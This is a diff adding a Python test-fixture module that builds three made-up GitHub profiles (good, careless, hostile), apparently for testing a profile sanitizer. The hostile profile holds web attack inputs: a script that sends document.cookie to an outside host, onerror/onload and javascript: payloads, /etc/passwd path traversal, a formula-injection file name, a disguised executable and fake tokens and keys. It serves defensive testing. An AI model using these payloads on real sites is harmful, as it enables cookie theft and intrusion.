@@ -1,0 +1,158 @@
+"""Three made-up profiles, built in code: a good one, a careless one and a hostile one."""
+
+import io
+import json
+import zipfile
+from pathlib import Path
+
+from PIL import ExifTags, Image, PngImagePlugin
+
+from seminar_utils.github_profile.build import build
+
+USER = "mina-example"
+
+
+def good(folder: Path) -> Path:
+    """As notebook 04 builds it."""
+    source = folder / "figure-of-my-run.png"
+    source.write_bytes(png())
+    return build(
+        {
+            "user": USER,
+            "about": "Second year of statistics.\nI read slowly and test much.\n한국어와 영어 🙂",
+            "statement": "A deeper plain net has a larger training error (R7).",
+            "how_tested": "Plain nets of 8 and 32 layers from the same first weights.",
+            "figure": str(source),
+            "alt": "Training error against epochs: the curve of 32 layers ends above that of 8.",
+            "n": 1,
+            "seed": 3,
+            "caption": "One seed is a picture, no evidence; not shown at this scale.",
+            "repeat": 'experiments.start("twins", seed=3)',
+            "surprised": "How early the curves part.",
+            "open_question": "Would longer training close the gap?",
+        },
+        folder,
+    )
+
+
+def careless(folder: Path) -> Path:
+    """Meant well: a template filled in halfway, a photograph, a notebook never looked through."""
+    root = folder / USER
+    write(
+        root,
+        {
+            "README.md": CARELESS.encode("utf-8-sig"),
+            "figure.png": png(text={"Author": "Mina"}),
+            "desk.jpg": jpeg(gps=True),
+            "run.ipynb": notebook(
+                "import torch", "File /home/mina.example/course/run.py\n\x1b[31mError\x1b[0m"
+            ),
+        },
+    )
+    return root
+
+
+def hostile(folder: Path) -> Path:
+    """Meant badly: scripts, keys, paths out of the repository, names that hold codes."""
+    root = folder / "somebody-else"
+    write(
+        root,
+        {
+            "README.md": HOSTILE.encode(),
+            "=cmd()\x1b[2J.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'></svg>",
+            "notes.txt": f"api_key = '{'k9' * 10}'\n{PRIVATE_KEY}\n".encode(),
+            "not_a_picture.png": b"MZ" + bytes(100),
+            "deep.ipynb": b"[" * 100_000,
+        },
+    )
+    return root
+
+
+TOKEN = "ghp_" + "a1B2" * 9
+PRIVATE_KEY = "-----BEGIN OPENSSH " + "PRIVATE KEY-----"
+REGISTRATION_NUMBER = "990230-1234567"  # 30 February: nobody's
+
+CARELESS = """# Hello, I am Mina Example
+
+My name is Mina Example, second-year student, class 3 at Example University.
+Write to me: 010-1234-5678. 여기에 자기소개를 적으세요.
+
+<div align="center">
+## My figure
+![figure](figure.png)
+</div>
+
+![](figure.png)
+![my desk](desk.jpg)
+![Loss of two nets against epochs](Figure.png)
+![stats](https://github-readme-stats.vercel.app/api?user=your-username)
+
+[My run](run.ipynb), [results](#my-result), [home](https://https://github.com/mina-example)
+[portfolio](mina-example.github.io)
+"""
+
+HOSTILE = f"""# hi
+
+<script>fetch("https://example.org/" + document.cookie)</script>
+<img src="x.png" onerror="alert(1)">
+<iframe src="https://example.org"></iframe>
+
+[click](javascript:alert(1)) [up](../../../etc/passwd) ![etc](../../etc/passwd)
+![no](not_a_picture.png) ![data](data:image/png;base64,AAAA)
+
+token: {TOKEN}
+890201-1234568 and {REGISTRATION_NUMBER}
+
+<div><div><div><div>
+**a** \x1b[31m\u202egnp.x
+
+{"[" * 3_000}
+{"> " * 300}x
+"""
+
+
+def write(root: Path, files: dict[str, bytes]) -> None:
+    """Write files below a folder."""
+    for name, content in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_bytes(content)
+
+
+def zipped(files: dict[str, bytes], **options) -> bytes:
+    """Return a zip of files."""
+    raw = io.BytesIO()
+    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as packed:
+        for name, content in files.items():
+            packed.writestr(name, content, **options)
+    return raw.getvalue()
+
+
+def png(text: dict[str, str] | None = None, size: tuple[int, int] = (8, 8)) -> bytes:
+    """Return a small PNG, with text chunks if wanted."""
+    chunks = PngImagePlugin.PngInfo()
+    for key, value in (text or {}).items():
+        chunks.add_text(key, value)
+    return _saved(Image.new("RGB", size, "white"), "PNG", pnginfo=chunks)
+
+
+def jpeg(gps: bool = False, tags: dict[str, object] | None = None, **options) -> bytes:
+    """Return a small JPEG, with a position and tags by name if wanted."""
+    exif = Image.Exif()
+    for name, value in (tags or {}).items():
+        exif[ExifTags.Base[name]] = value
+    if gps:
+        exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitude: (37.0, 30.0, 0.0)}
+    return _saved(Image.new("RGB", (8, 8), "white"), "JPEG", exif=exif, **options)
+
+
+def notebook(source: str, output: str = "") -> bytes:
+    """Return a notebook of one cell with one output."""
+    outputs = [{"output_type": "stream", "name": "stdout", "text": [output]}]
+    cell = {"cell_type": "code", "source": [source], "outputs": outputs, "metadata": {}}
+    return json.dumps({"cells": [cell], "nbformat": 4, "nbformat_minor": 5}).encode()
+
+
+def _saved(image: Image.Image, kind: str, **options) -> bytes:
+    raw = io.BytesIO()
+    image.save(raw, kind, **options)
+    return raw.getvalue()
